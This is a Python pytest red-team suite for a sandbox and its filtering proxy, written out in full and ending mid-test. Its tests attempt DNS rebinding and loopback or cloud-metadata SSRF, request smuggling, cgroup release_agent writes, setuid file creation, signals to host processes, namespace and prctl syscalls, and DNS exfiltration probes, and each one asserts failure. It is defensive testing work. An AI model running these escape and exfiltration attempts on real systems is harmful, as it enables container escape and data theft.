"""Red team, round 3: attacks no issue names, each a test asserting it fails.

Network escapes around the filtering proxy of mode ``proxied`` (rebinding, ports,
literal spellings, absolute-URI and Host tricks, request smuggling, SOCKS5
address types, slow or huge heads, the proxy's socket from elsewhere), then
sandbox escapes on bwrap (run as root here) and docker: leaked fds, the init's
/proc, /sys and cgroup writes, device nodes, signals to the host, renames around
masked paths, setid bits through tar/cp -p/install -m, unshare, prctl and
personality. Servers are on 127.0.0.1 only; rebinding is a resolver that answers
what an attacker's DNS would.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import pytest

from sandbox import BackendUnavailableError, BwrapConfig, SandboxPolicy
from sandbox._proxy import FilteringProxy
from sandbox.bwrap import BwrapBackend
from shellrt.supervisor import Supervisor
from tests.conftest import require

# -- helpers ---------------------------------------------------------------------------------


class Recorder:
    """A TCP server on 127.0.0.1 that keeps every byte each connection sent, answering one 200."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.listener.getsockname()[1])
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        self.listener.settimeout(0.1)
        while not self._stop.is_set():
            try:
                conn, _ = self.listener.accept()
            except OSError:
                continue
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        data = b""
        with conn:
            conn.settimeout(2)
            with contextlib.suppress(OSError):
                while b"\r\n\r\n" not in data and (chunk := conn.recv(65536)):
                    data += chunk
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                while chunk := conn.recv(65536):  # whatever else arrives before the proxy closes
                    data += chunk
        self.received.append(data)

    def settled(self, count: int, timeout: float = 30.0) -> list[bytes]:
        """What the server received once ``count`` connections have ended (each is recorded when
        it closes, after the answer the test already read), or by ``timeout``."""
        deadline = time.monotonic() + timeout
        while len(self.received) < count and time.monotonic() < deadline:
            time.sleep(0.02)
        return list(self.received)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.listener.close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    try:
        yield server
    finally:
        server.close()


def _proxy(tmp_path: Path, allowed: tuple[str, ...], **options: float) -> FilteringProxy:
    d = tmp_path / f"proxy-{len(list(tmp_path.glob('proxy-*')))}"
    d.mkdir(mode=0o700)
    p = FilteringProxy(d / "proxy.sock", allowed=allowed, log_path=d / "network.log", **options)  # type: ignore[arg-type]
    p.start()
    return p


@contextlib.contextmanager
def proxy_of(tmp_path: Path, *allowed: str, **options: float) -> Iterator[FilteringProxy]:
    p = _proxy(tmp_path, allowed, **options)
    try:
        yield p
    finally:
        p.close()


def talk(p: FilteringProxy, data: bytes, *, timeout: float = 10) -> bytes:
    """Send ``data`` to the proxy, half-close, read everything it answers."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(timeout)
        s.connect(str(p.socket_path))
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # it may answer before reading all
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
        out = b""
        with contextlib.suppress(ConnectionResetError):
            while chunk := s.recv(65536):
                out += chunk
    return out


def socks(p: FilteringProxy, kind: int, address: bytes, port: int, command: int = 1) -> int:
    """A SOCKS5 request; the proxy's reply code (0: connected)."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(p.socket_path))
        s.sendall(b"\x05\x01\x00")
        assert s.recv(2) == b"\x05\x00"
        s.sendall(bytes([5, command, 0, kind]) + address + port.to_bytes(2, "big"))
        return s.recv(10)[1]


@pytest.fixture
def rebinding(monkeypatch: pytest.MonkeyPatch) -> Callable[[str, str], None]:
    """Make the host's resolver answer ``name`` with ``address`` (what an attacker's DNS does)."""
    answers: dict[str, str] = {}
    real = socket.getaddrinfo

    def fake(host: object, port: object, *args: object, **kwargs: object) -> object:
        if isinstance(host, str) and host in answers:
            address = answers[host]
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            sockaddr = (
                (address, int(str(port)), 0, 0) if family == socket.AF_INET6 else (address, int(str(port)))
            )
            return [(family, socket.SOCK_STREAM, 6, "", sockaddr)]
        return real(host, port, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", fake)
    return answers.__setitem__


# -- network: rebinding and addresses ---------------------------------------------------------

NON_GLOBAL = [
    "127.0.0.1",
    "169.254.169.254",  # cloud metadata
    "10.1.2.3",
    "192.168.1.1",
    "100.64.0.1",
    "0.0.0.0",
    "::1",
    "fe80::1",
    "fd00::1",
    "::ffff:127.0.0.1",
    "::127.0.0.1",  # IPv4-compatible
    "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254
    "2002:7f00:1::1",  # 6to4 of 127.0.0.1
    "2001:0:4136:e378:8000:63bf:80ff:fffe",  # Teredo of 127.0.0.1
    "fec0::1",  # site-local
]


@pytest.mark.parametrize("address", NON_GLOBAL)
def test_wildcard_name_rebound_to_a_non_global_address_is_refused(
    tmp_path: Path, rebinding: Callable[[str, str], None], address: str
) -> None:
    rebinding("cdn.registry.test", address)
    with proxy_of(tmp_path, "*.registry.test") as p:
        out = talk(p, b"CONNECT cdn.registry.test:443 HTTP/1.1\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 403"), out
        assert socks(p, 3, b"\x11cdn.registry.test", 443) == 2
    assert [r.host for r in p.refusals] == ["cdn.registry.test"] * 2


def test_a_sandbox_cannot_send_a_wildcard_as_its_host(
    tmp_path: Path, rebinding: Callable[[str, str], None]
) -> None:
    """``*.corp.test`` is a pattern, not a name; resolved literally it hits a wildcard record."""
    rebinding("*.corp.test", "10.0.0.5")
    with proxy_of(tmp_path, "*.corp.test") as p:
        out = talk(p, b"CONNECT *.corp.test:443 HTTP/1.1\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 403"), out
        assert socks(p, 3, b"\x0b*.corp.test", 443) == 2


@pytest.mark.parametrize(
    "spelling",
    ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "2130706433", "0x7f000001", "127.1",
     "0177.0.0.1", "[0:0:0:0:0:ffff:127.0.0.1]", "localhost%00.pypi.org", "127.0.0.1.", "[::1%lo]"],
)  # fmt: skip
def test_loopback_spellings_are_refused(tmp_path: Path, recorder: Recorder, spelling: str) -> None:
    with proxy_of(tmp_path, "pypi.org", "*.pypi.org") as p:
        out = talk(p, f"CONNECT {spelling}:{recorder.port} HTTP/1.1\r\n\r\n".encode())
        assert out.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")), out
        out = talk(p, f"GET http://{spelling}:{recorder.port}/ HTTP/1.1\r\n\r\n".encode())
        assert out.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")), out
    assert recorder.received == []


@pytest.mark.parametrize(
    ("kind", "address"),
    [(1, bytes([127, 0, 0, 1])), (4, socket.inet_pton(socket.AF_INET6, "::1")),
     (4, socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1")), (3, b"\x09127.0.0.1"), (3, b"\x05[::1]")],
)  # fmt: skip
def test_socks5_address_types_do_not_reach_loopback(
    tmp_path: Path, recorder: Recorder, kind: int, address: bytes
) -> None:
    with proxy_of(tmp_path, "localhost") as p:
        assert socks(p, kind, address, recorder.port) == 2
    assert recorder.received == []


def test_socks5_bind_and_udp_associate_are_refused(tmp_path: Path, recorder: Recorder) -> None:
    with proxy_of(tmp_path, "localhost") as p:
        assert socks(p, 3, b"\x09localhost", recorder.port, command=2) == 7
        assert socks(p, 3, b"\x09localhost", recorder.port, command=3) == 7
    assert recorder.received == []


# -- network: ports ---------------------------------------------------------------------------


def test_a_public_allowed_name_is_reached_on_web_ports_only(
    tmp_path: Path, rebinding: Callable[[str, str], None]
) -> None:
    """``--allow-domain pypi.org`` means its web service, not its SSH or SMTP (exfiltration, spam)."""
    rebinding("registry.test", "93.184.215.14")  # a public address: nothing listens for the test
    with proxy_of(tmp_path, "registry.test") as p:
        for port in (22, 25, 6379, 9418):
            out = talk(p, f"CONNECT registry.test:{port} HTTP/1.1\r\n\r\n".encode())
            assert out.startswith(b"HTTP/1.1 403") and b"port" in out, out
            assert socks(p, 3, b"\x0dregistry.test", port) == 2
    assert {r.port for r in p.refusals} == {22, 25, 6379, 9418}


def test_an_exactly_listed_local_name_keeps_its_ports(tmp_path: Path, recorder: Recorder) -> None:
    """``--allow-domain localhost`` is the operator's explicit choice of a host service (any port)."""
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, f"GET http://localhost:{recorder.port}/ HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    assert out.startswith(b"HTTP/1.1 200"), out


# -- network: absolute-URI, Host and smuggling tricks in plain HTTP ---------------------------


@pytest.mark.parametrize(
    "authority",
    ["evil.test#@localhost:{port}", "evil.test?@localhost:{port}", "evil.test\\@localhost:{port}",
     "localhost:{port}@evil.test", "evil.test:{port}#localhost", "localhost:{port}:80"],
)  # fmt: skip
def test_absolute_uri_tricks_are_decided_on_the_real_authority(
    tmp_path: Path, recorder: Recorder, authority: str
) -> None:
    target = authority.format(port=recorder.port)
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, f"GET http://{target}/x HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    assert out.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")), out
    assert recorder.received == []


def test_the_host_header_sent_upstream_is_the_vetted_name(tmp_path: Path, recorder: Recorder) -> None:
    """Domain fronting through plain HTTP: the client's Host must not pick another site on that server."""
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(
            p,
            f"GET http://localhost:{recorder.port}/ HTTP/1.1\r\nHost: evil.test\r\nhost: evil2.test\r\n\r\n".encode(),
        )
    assert out.startswith(b"HTTP/1.1 200"), out
    [request] = recorder.settled(1)
    hosts = [line for line in request.split(b"\r\n") if line.lower().startswith(b"host:")]
    assert hosts == [f"Host: localhost:{recorder.port}".encode()], request


def test_a_second_request_on_the_connection_never_reaches_upstream(
    tmp_path: Path, recorder: Recorder
) -> None:
    """Pipelining: the proxy vets one request per connection, so it forwards one."""
    first = f"GET http://localhost:{recorder.port}/a HTTP/1.1\r\nHost: localhost\r\n\r\n"
    second = "GET /admin HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    with proxy_of(tmp_path, "localhost") as p:
        talk(p, (first + second).encode())
    received = recorder.settled(1)
    assert len(received) == 1 and b"/admin" not in received[0], received


@pytest.mark.parametrize(
    "headers",
    ["Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 5\r\nContent-Length: 40\r\n",
     "Transfer-Encoding: chunked\r\n", "Content-Length: -1\r\n", "X-A: b\nHost: evil.test\r\n",
     " folded: header\r\n", "X-A: b\rHost: evil.test\r\n"],
)  # fmt: skip
def test_ambiguous_request_framing_is_refused(tmp_path: Path, recorder: Recorder, headers: str) -> None:
    request = f"POST http://localhost:{recorder.port}/ HTTP/1.1\r\nHost: localhost\r\n{headers}\r\n"
    body = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, (request + body).encode())
    assert out.startswith(b"HTTP/1.1 400") or out.startswith(b"HTTP/1.1 501"), out
    assert recorder.received == []


def test_a_request_body_is_forwarded_by_its_length_and_no_further(tmp_path: Path, recorder: Recorder) -> None:
    request = (
        f"POST http://localhost:{recorder.port}/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\n"
    )
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, (request + "hello" + "GET /smuggled HTTP/1.1\r\n\r\n").encode())
    assert out.startswith(b"HTTP/1.1 200"), out
    [received] = recorder.settled(1)
    assert received.endswith(b"\r\n\r\nhello") and b"smuggled" not in received, received


# -- network: holding the proxy ------------------------------------------------------------------


def test_a_huge_head_is_refused_and_the_proxy_keeps_serving(tmp_path: Path, recorder: Recorder) -> None:
    huge = b"GET http://localhost/ HTTP/1.1\r\nX-Pad: " + b"a" * (1 << 20) + b"\r\n\r\n"
    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, huge)
        assert out == b"" or out.startswith(b"HTTP/1.1 431"), out[:200]
        ok = talk(p, f"GET http://localhost:{recorder.port}/ HTTP/1.1\r\n\r\n".encode())
    assert ok.startswith(b"HTTP/1.1 200"), ok


def test_slowloris_heads_are_cut_off(tmp_path: Path) -> None:
    """A client that never finishes its head loses the connection (it cannot hold a slot forever)."""
    with proxy_of(tmp_path, "localhost", head_timeout=0.5) as p, socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(p.socket_path))
        s.sendall(b"GET http://localhost/ HTTP/1.1\r\nX-Slow: ")
        t0 = time.monotonic()
        assert s.recv(100).startswith(b"HTTP/1.1 408")
        assert time.monotonic() - t0 < 5
        s.close()
        s2 = socket.socket(socket.AF_UNIX)
        with s2:
            s2.settimeout(10)
            s2.connect(str(p.socket_path))
            s2.sendall(b"\x05")  # SOCKS5 that never says which methods
            assert s2.recv(100) in (b"", b"\x05\xff")


def test_connections_over_the_cap_are_turned_away_not_queued(tmp_path: Path) -> None:
    """Queued connections each hold a host fd: over the cap the proxy answers 503 and closes."""
    with proxy_of(tmp_path, "localhost", max_connections=3, head_timeout=30) as p:
        held = []
        try:
            for _ in range(3):
                s = socket.socket(socket.AF_UNIX)
                s.connect(str(p.socket_path))
                s.sendall(b"GET ")
                held.append(s)
            time.sleep(0.3)
            out = talk(p, b"GET http://localhost/ HTTP/1.1\r\n\r\n", timeout=5)
            assert out.startswith(b"HTTP/1.1 503"), out
        finally:
            for s in held:
                s.close()
        time.sleep(0.3)
        out = talk(p, b"GET http://blocked.test/ HTTP/1.1\r\n\r\n", timeout=5)
        assert out.startswith(b"HTTP/1.1 403"), out  # served again once slots are free


# -- sandboxes: bwrap (as root here) and docker -----------------------------------------------

BACKENDS = ["bwrap", "docker"]


class Box:
    """One sandbox session of either backend, for attacks written once."""

    def __init__(self, kind: str, sup: Supervisor, ws: Path) -> None:
        self.kind, self.sup, self.ws = kind, sup, ws

    async def sh(self, command: str, timeout_s: float = 60) -> tuple[int | None, str]:
        result = await self.sup.run(command, timeout_s=timeout_s)
        return result.exit_code, result.preview


@contextlib.asynccontextmanager
async def box(kind: str, tmp_path: Path, **policy: object) -> AsyncIterator[Box]:
    """A session sandbox of ``kind`` on ``tmp_path/ws`` (kept across calls: later sessions see it)."""
    from sandbox.base import SandboxBackend

    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    mode = str(policy.pop("workspace_mode", "copy"))
    full = SandboxPolicy(workspace=ws, **policy)  # type: ignore[arg-type]
    backend: SandboxBackend
    if kind == "bwrap":
        require(shutil.which("bwrap") is not None, "bubblewrap is not installed (apt-get install bubblewrap)")
        backend = BwrapBackend(BwrapConfig(), full)
    else:
        from sandbox import DockerConfig
        from sandbox.docker import DockerBackend
        from tests._docker_support import DEBIAN, require_docker

        require_docker()
        backend = DockerBackend(DockerConfig(image=DEBIAN, workspace_mode=mode), full)  # type: ignore[arg-type]
    try:
        await backend.start()
    except BackendUnavailableError as exc:
        require(False, f"{kind} unusable here: {exc}")
    session = tmp_path / f"session-{os.urandom(4).hex()}"
    sup = Supervisor(backend, session_dir=session)
    try:
        yield Box(kind, sup, ws)
    finally:
        await sup.close()
        await backend.close()
        log = backend.network_log
        if log is not None:  # kept for the operator when something was refused: the test's own to remove
            shutil.rmtree(log.parent, ignore_errors=True)


def _setid_files(root: Path) -> list[str]:
    found = []
    for path in root.rglob("*"):
        with contextlib.suppress(OSError):
            if path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID) and not path.is_dir():
                found.append(str(path))
    return found


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_commands_hold_no_fd_beyond_stdio(kind: str, tmp_path: Path) -> None:
    """No channel of the supervisor, zygote, executor or proxy leaks into a command."""
    async with box(kind, tmp_path) as b:
        code, out = await b.sh("ls /proc/$$/fd; ls /proc/$$/task/*/fd")
    fds = {line for line in out.split() if line.isdigit()}
    # docker's one documented descriptor: fd 6, the command's own write-only cwd report file in its
    # own TMPDIR slot (round 32 dockerexit; `test_redteam_round16_analysis2_fds.py` checks its target).
    documented = {"6"} if kind == "docker" else set()
    assert code == 0 and {"0", "1", "2"} <= fds <= {"0", "1", "2"} | documented, out


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_the_init_process_is_closed_to_commands(kind: str, tmp_path: Path) -> None:
    async with box(kind, tmp_path) as b:
        code, out = await b.sh(
            "for f in environ maps mem stack syscall; do cat /proc/1/$f >/dev/null 2>&1 && echo OPEN $f; done; "
            "ls /proc/1/root/ >/dev/null 2>&1 && echo OPEN root; [ -n \"$(ls -A /proc/1/fd/ 2>/dev/null)\" ] && echo OPEN fd; "
            "readlink /proc/1/cwd >/dev/null 2>&1 && echo OPEN cwd; echo done"
        )
    assert out.strip() == "done", out


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_sys_and_cgroup_writes_fail(kind: str, tmp_path: Path) -> None:
    """cgroup v1 ``release_agent`` (the classic container escape), uevent helper, cgroup moves, mounts."""
    async with box(kind, tmp_path) as b:
        code, out = await b.sh(
            "for f in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/*/notify_on_release "
            "/sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs /sys/kernel/uevent_helper "
            "/sys/kernel/mm/transparent_hugepage/enabled /sys/fs/cgroup/memory/memory.limit_in_bytes; do "
            "[ -e $f ] && (echo 1 > $f) 2>/dev/null && echo WROTE $f; done; "
            "mkdir /sys/fs/cgroup/pids/x 2>/dev/null && echo MADE; mkdir -p /tmp/c; "
            "mount -t cgroup -o memory cgroup /tmp/c 2>/dev/null && echo MOUNTED; "
            "mount -t cgroup2 none /tmp/c 2>/dev/null && echo MOUNTED2; echo done"
        )
    assert out.strip() == "done", out


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_device_nodes_cannot_be_made_or_reached(kind: str, tmp_path: Path) -> None:
    async with box(kind, tmp_path) as b:
        code, out = await b.sh(
            "mknod nullx c 1 3 2>/dev/null && echo MKNOD; mknod disk b 254 0 2>/dev/null && echo MKNOD_B; "
            "for d in /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/console /dev/vda /dev/sda /dev/nvme0n1 "
            "/dev/fuse /dev/net/tun /dev/kvm; do [ -e $d ] && echo HAS $d; done; "
            "(exec 3<>/dev/tty) 2>/dev/null && echo TTY; echo done"
        )
    assert out.strip() == "done", out


@pytest.fixture
def host_process() -> Iterator[subprocess.Popen[bytes]]:
    """A host process of the test's own (the kind of thing a command must not be able to signal)."""
    proc = subprocess.Popen(["sleep", "300"])
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_signals_do_not_reach_host_processes(
    kind: str, tmp_path: Path, host_process: subprocess.Popen[bytes]
) -> None:
    async with box(kind, tmp_path) as b:
        await b.sh(f"kill -9 {host_process.pid}; kill -STOP {host_process.pid}; kill -9 -1; true")
        await b.sh(f"perl -e 'kill 9, {host_process.pid}; kill 9, -{host_process.pid}'; true")
    time.sleep(0.2)
    assert host_process.poll() is None
    with open(f"/proc/{host_process.pid}/stat") as fh:
        assert fh.read().split(") ")[1][0] in "SR"  # not stopped (T), not a zombie


#: What a command tries in order to gain a set-id file; each must leave none.
SETID_ATTEMPTS = (
    "cp /bin/sh ./src_sh; mkdir -p out; tar --mode=4755 -cf a.tar src_sh && tar -xpf a.tar -C out; "
    "tar --mode=2755 -cf b.tar src_sh && tar --same-owner -xpf b.tar -C out; "
    "cp -p /usr/bin/passwd ./cp_p; cp --preserve=mode /usr/bin/passwd ./cp_mode; "
    "install -m 4755 /bin/sh ./inst_u; install -m 6755 /bin/sh ./inst_ug; "
    "perl -e 'use Fcntl; sysopen(my $f, q{open_u}, O_CREAT|O_WRONLY, 04755)'; "
    "perl -e 'mkdir q{dir_g}, 02755; open(my $f, q{>}, q{dir_g/in}); close $f'; "
    "perl -e 'syscall(133, q{mknod_u}, 0104755, 0)'; "
    "find . /tmp -xdev -perm /6000 ! -type d 2>/dev/null; true"
)


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_no_setid_file_through_tar_cp_install_open_or_mknod(kind: str, tmp_path: Path) -> None:
    require(Path("/usr/bin/passwd").exists(), "needs a set-uid program to copy (/usr/bin/passwd)")
    async with box(kind, tmp_path, **({"workspace_mode": "bind"} if kind == "docker" else {})) as b:
        code, out = await b.sh(SETID_ATTEMPTS, timeout_s=120)
    found_inside = [line for line in out.splitlines() if line.startswith(("./", "/tmp"))]
    assert found_inside == [], out
    assert _setid_files(tmp_path / "ws") == []


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_unshare_prctl_and_personality_are_refused(kind: str, tmp_path: Path) -> None:
    """New namespaces, ambient caps, PR_SET_MM, seccomp/no_new_privs off, personality flags (x86_64 numbers)."""
    require(os.uname().machine == "x86_64", "syscall numbers below are x86_64's")
    script = (
        "print join q{ }, "
        "syscall(272, 0x10000000), syscall(272, 0x20000), syscall(272, 0x40000000), "  # unshare USER, NS, NET
        "syscall(157, 47, 2, 21, 0, 0), "  # prctl(PR_CAP_AMBIENT, RAISE, SYS_ADMIN)
        "syscall(157, 35, 8, 0, 0, 0), "  # prctl(PR_SET_MM, ...)
        "syscall(157, 38, 0, 0, 0, 0), "  # prctl(PR_SET_NO_NEW_PRIVS, 0): cannot be undone
        "syscall(157, 22, 0, 0, 0, 0), "  # prctl(PR_SET_SECCOMP, DISABLED)
        "syscall(135, 0x0040000), "  # personality(ADDR_NO_RANDOMIZE)
        "syscall(135, 0x0400000);"  # personality(READ_IMPLIES_EXEC)
    )
    async with box(kind, tmp_path) as b:
        code, out = await b.sh(
            f"perl -e '{script}'; echo; unshare -r true 2>/dev/null && echo UNSHARED; true"
        )
        _, status = await b.sh("grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status")
    assert out.split() == ["-1"] * 9, out
    assert "CapEff:\t0000000000000000" in status and "NoNewPrivs:\t1" in status, status


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_abstract_unix_sockets_of_the_host_are_unreachable(kind: str, tmp_path: Path) -> None:
    """Abstract sockets ignore the filesystem: only the network namespace keeps them apart."""
    name = f"shellrt-redteam-{os.urandom(4).hex()}"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + name)
    listener.listen(4)
    try:
        async with box(kind, tmp_path) as b:
            code, out = await b.sh(
                "perl -e 'use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0); "
                f'print connect($s, pack_sockaddr_un("\\0{name}")) ? "CONNECTED" : "refused"\''
            )
    finally:
        listener.close()
    assert out.strip() == "refused", out


# -- masked paths: renames around them ---------------------------------------------------------


@pytest.mark.anyio
@pytest.mark.parametrize(
    "kind",
    [
        "bwrap",
        "docker",
    ],
)
async def test_renaming_the_parent_of_a_masked_file_does_not_unmask_it_in_the_session(
    kind: str, tmp_path: Path
) -> None:
    ws = tmp_path / "ws"
    (ws / "conf").mkdir(parents=True)
    (ws / "conf" / "db.env").write_text("DBPASS=hunter2\n")
    async with box(kind, tmp_path, read_denied=(ws / "conf" / "db.env",)) as b:
        await b.sh("mv conf conf2; true")
        _, out = await b.sh("cat conf2/db.env conf/db.env 2>/dev/null; true")
    assert "hunter2" not in out, out


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("kind", "mode"),
    [
        ("bwrap", ""),
        ("docker", "bind"),
        ("docker", "copy"),
    ],
)
async def test_a_masked_file_moved_by_a_rename_stays_masked_in_the_next_session(
    kind: str, mode: str, tmp_path: Path
) -> None:
    ws = tmp_path / "ws"
    (ws / "conf").mkdir(parents=True)
    (ws / "conf" / "db.env").write_text("DBPASS=hunter2\n")
    options: dict[str, object] = {"read_denied": (ws / "conf" / "db.env",)}
    if mode:
        options["workspace_mode"] = mode
    async with box(kind, tmp_path, **options) as b:
        await b.sh("mv conf conf2; ln conf2/db.env hard 2>/dev/null; true")
    async with box(kind, tmp_path, **options) as b:
        _, out = await b.sh("cat conf2/db.env hard conf/db.env 2>/dev/null; true")
    assert "hunter2" not in out, out


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_masked_files_cannot_be_linked_or_swapped(kind: str, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "db.env").write_text("DBPASS=hunter2\n")
    async with box(kind, tmp_path, read_denied=(ws / "db.env",)) as b:
        _, out = await b.sh(
            "ln db.env hard 2>/dev/null; ln -s db.env soft; cp --reflink=auto db.env copy 2>/dev/null; "
            "mv db.env moved 2>/dev/null; cat hard soft copy moved db.env 2>/dev/null; "
            "perl -e 'link q{/proc/self/cwd/db.env}, q{viaproc}'; cat viaproc 2>/dev/null; true"
        )
    assert "hunter2" not in out, out
    assert (ws / "db.env").read_text() == "DBPASS=hunter2\n"


# -- the proxy's channel, seen from inside ------------------------------------------------------


def _host_proxy_sockets() -> set[Path]:
    return set(Path("/tmp").glob("shellrt-proxy-*/proxy.sock"))


@pytest.mark.anyio
async def test_bwrap_command_cannot_open_the_proxy_socket_itself(tmp_path: Path, recorder: Recorder) -> None:
    """Only the bridge (capped) may use the bound socket: a command going around it is refused."""
    async with box("bwrap", tmp_path, network="proxied", allowed_domains=("localhost",)) as b:
        _, out = await b.sh(
            "ls /run/shellrt-proxy/ 2>/dev/null && echo LISTED; "
            "perl -e 'use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0); "
            "print connect($s, pack_sockaddr_un(q{/run/shellrt-proxy/proxy.sock})) ? q{CONNECTED} : q{refused}'"
        )
        assert out.strip() == "refused", out
        # The bridge itself still works for the same command.
        code, fetched = await b.sh(
            f"printf 'GET http://localhost:{recorder.port}/ HTTP/1.0\\r\\n\\r\\n' | "
            "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(q{127.0.0.1:3128}) or die; "
            "print $s <STDIN>; shutdown($s, 1); print <$s>'"
        )
    assert fetched.endswith("ok"), fetched


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_another_sessions_proxy_cannot_be_reached(
    kind: str, tmp_path: Path, recorder: Recorder
) -> None:
    """Session A allows localhost; session B (allowing only an unrelated name) reaches neither A's socket
    nor, through its own proxy, what A may reach."""
    before = _host_proxy_sockets()
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    async with box(kind, tmp_path / "a", network="proxied", allowed_domains=("localhost",)) as a:
        assert (await a.sh("true"))[0] == 0
        theirs = sorted(_host_proxy_sockets() - before)
        if kind == "bwrap":
            assert theirs, "session A's proxy socket not found on the host"
        async with box(kind, tmp_path / "b", network="proxied", allowed_domains=("example.invalid",)) as b:
            probes = "".join(
                f"perl -e 'use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0); "
                f"print connect($s, pack_sockaddr_un(q{{{path}}})) ? q{{CONNECTED }} : q{{refused }}'; "
                for path in theirs
            )
            _, out = await b.sh(f"{probes} ls /tmp/shellrt-proxy-* 2>/dev/null; echo")
            assert "CONNECTED" not in out and "proxy.sock" not in out, out
            _, fetched = await b.sh(
                f"printf 'GET http://localhost:{recorder.port}/ HTTP/1.0\\r\\n\\r\\n' | "
                "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(q{127.0.0.1:3128}) or die; "
                "print $s <STDIN>; shutdown($s, 1); print <$s>'"
            )
            assert fetched.startswith("HTTP/1.1 403"), fetched
    assert recorder.received == []


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_no_dns_nor_route_around_the_proxy(kind: str, tmp_path: Path) -> None:
    """DNS is an exfiltration channel too: the sandbox resolves nothing and reaches no resolver.

    A datagram to 127.0.0.1 goes to the sandbox's own loopback: the host's listener there hears nothing.
    """
    heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    heard.bind(("127.0.0.1", 0))
    heard.settimeout(0.5)
    port = int(heard.getsockname()[1])
    try:
        async with box(kind, tmp_path, network="proxied", allowed_domains=("localhost",)) as b:
            _, out = await b.sh(
                "getent hosts pypi.org && echo RESOLVED; "
                "perl -e 'use Socket; for my $a (q{8.8.8.8}, q{169.254.169.254}, q{172.17.0.1}, q{10.0.2.3}) { "
                "socket(my $u, PF_INET, SOCK_DGRAM, 0); "
                "print qq{SENT $a\\n} if send($u, q{x}, 0, pack_sockaddr_in(53, inet_aton($a))); "
                "socket(my $t, PF_INET, SOCK_STREAM, 0); "
                "print qq{TCP $a\\n} if connect($t, pack_sockaddr_in(80, inet_aton($a))); } "
                f"socket(my $l, PF_INET, SOCK_DGRAM, 0); send($l, q{{leak}}, 0, pack_sockaddr_in({port}, "
                "inet_aton(q{127.0.0.1})));'; echo done"
            )
        with pytest.raises(TimeoutError):
            heard.recvfrom(64)
    finally:
        heard.close()
    assert out.strip().splitlines()[-1] == "done" and "RESOLVED" not in out, out
    assert "SENT" not in out and "TCP" not in out, out


@pytest.mark.anyio
async def test_bwrap_bridge_survives_a_command_killing_everything(tmp_path: Path, recorder: Recorder) -> None:
    get = (
        f"printf 'GET http://localhost:{recorder.port}/ HTTP/1.0\\r\\n\\r\\n' | "
        "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(q{127.0.0.1:3128}) or die; "
        "print $s <STDIN>; shutdown($s, 1); print <$s>'"
    )
